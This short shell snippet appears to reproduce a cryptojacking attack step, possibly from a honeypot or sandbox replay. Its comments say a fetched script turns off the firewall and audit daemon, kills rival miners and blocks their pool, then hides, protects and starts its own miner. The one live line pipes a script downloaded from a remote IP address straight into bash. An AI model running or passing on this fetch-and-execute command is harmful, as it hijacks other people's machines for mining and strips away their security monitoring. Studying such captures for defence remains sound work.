# A fetched script turns off the firewall and the audit daemon (the programs do nothing here), kills two rival miners,
# deletes their files and cron job, and blocks their pool. Then it hides its own miner, protects the files with chattr
# and starts the miner.
wget -q -O - http://203.0.113.10/clean.sh | bash
sleep 11
